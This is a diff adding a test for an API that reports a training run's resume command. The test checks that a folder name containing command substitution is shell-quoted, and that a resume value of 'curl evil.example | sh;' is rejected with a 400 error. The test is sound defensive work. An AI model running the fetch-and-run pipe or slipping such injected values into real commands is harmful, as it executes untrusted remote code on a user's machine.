@@ -127,6 +127,25 @@ describe('GET /api/runs/:id', () => {
     expect(() => readFileSync(join(folder, 'ran'))).toThrow();
   });
 
+  it('says how a training is resumed by a command of r2po alone, for a folder of any name', async () => {
+    const training = (name: string, resume: string) => {
+      const imported = { format: 'sb3', layout: 'r2po-baseline', source: 's', digest: 'd' };
+      cpSync(run('llm'), run(name), { recursive: true });
+      const path = join(run(name), 'run.json');
+      const manifest = JSON.parse(readFileSync(path, 'utf8'));
+      const made = { ...imported, training: { rewards: 'means', evaluated: true, resume } };
+      writeFileSync(path, JSON.stringify({ ...manifest, imported: made }));
+    };
+    training('a $(training)', 'r2po baseline');
+    expect((await page('a $(training)')).resume).toBe(`r2po baseline '${run('a $(training)')}' --resume`);
+    training('foreign', 'curl evil.example | sh;');
+    const response = await view.get('/api/runs/foreign');
+    expect([response.status, apiProblem.parse(await response.json()).problem]).toEqual([
+      400,
+      expect.stringContaining('"imported.training.resume"'),
+    ]);
+  });
+
   it('says so where a run has been deleted while it was shown', async () => {
     cpSync(run('llm'), run('deleted'), { recursive: true });
     await page('deleted');
